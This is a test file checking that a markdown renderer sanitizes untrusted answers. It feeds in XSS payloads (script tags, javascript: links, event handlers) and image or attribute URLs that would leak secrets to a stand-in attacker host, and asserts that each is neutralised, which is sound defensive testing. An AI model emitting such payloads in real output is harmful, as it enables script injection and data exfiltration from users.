// @vitest-environment jsdom
// Answers are untrusted: what renderMarkdown lets through. In jsdom, the DOM
// DOMPurify supports outside a browser: happy-dom parses markup otherwise
// than a browser, so a sanitizer checked there proves nothing.

import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

const dom = (html: string) => {
  const d = document.createElement('div');
  d.innerHTML = html;
  return d;
};

describe('renderMarkdown', () => {
  it('renders markdown and strips what is active', () => {
    const d = dom(renderMarkdown('**bold** [a link](https://example.test/x) <script>alert(1)</script> <a href="javascript:alert(1)">js</a> <b onclick="x()">b</b>'));
    expect(d.querySelector('strong')!.textContent).toBe('bold');
    expect(d.querySelector('script')).toBeNull();
    expect(d.querySelector('[onclick]')).toBeNull();
    const links = [...d.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.test/x', null]);
    expect(links[0]!.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('never loads an image: each becomes a link to it, or a note when it has no web address', () => {
    const d = dom(
      renderMarkdown(
        '![chart](http://127.0.0.1:9/md?q=the+user+secret) <img src="https://example.test/h.png?q=secret2" onerror="x()"> ' +
          '<img alt="inline" src="data:image/png;base64,AAAA"> <picture><source srcset="https://example.test/s.png"></picture>',
      ),
    );
    expect(d.querySelectorAll('img, picture, source, video, audio')).toHaveLength(0);
    expect([...d.querySelectorAll('.md-image')].map((e) => [e.tagName, e.textContent, e.getAttribute('href')])).toEqual([
      ['A', 'image: chart', 'http://127.0.0.1:9/md?q=the+user+secret'],
      ['A', 'image: example.test', 'https://example.test/h.png?q=secret2'],
      ['SPAN', 'image: inline', null],
    ]);
    expect(d.querySelector('a.md-image')!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(d.innerHTML).not.toContain('onerror');
  });

  it('keeps no attribute a browser loads from: a table background fetches nothing', () => {
    const leak = 'http://attacker.test/c?q=secret';
    const html = renderMarkdown(
      `Sure. <table background="${leak}"><tr><td background="${leak}">ok</td></tr></table> ` +
        `<video poster="${leak}"></video> <a href="https://example.test/" ping="${leak}">a</a> ` +
        `<div srcset="${leak} 1x" src="${leak}" action="${leak}" formaction="${leak}">d</div>`,
    );
    expect(html).not.toContain('attacker.test');
    const d = dom(html);
    expect(d.querySelector('td')!.textContent).toBe('ok');
    expect(d.querySelector('a')!.getAttribute('href')).toBe('https://example.test/');
  });

  it('an image inside a link is the link\'s text, not a second link', () => {
    const d = dom(renderMarkdown('[![badge](https://example.test/b.svg)](https://example.test/page)'));
    expect([...d.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.textContent])).toEqual([['https://example.test/page', 'image: badge']]);
  });

  it('keeps a link made from a hostile image harmless', () => {
    const d = dom(renderMarkdown('<img src="javascript:alert(1)" alt="&quot;><script>x()</script>">'));
    expect(d.querySelector('script')).toBeNull();
    expect(d.querySelector('a')).toBeNull();
    expect(d.querySelector('.md-image')!.textContent).toBe('image: "><script>x()</script>');
  });
});
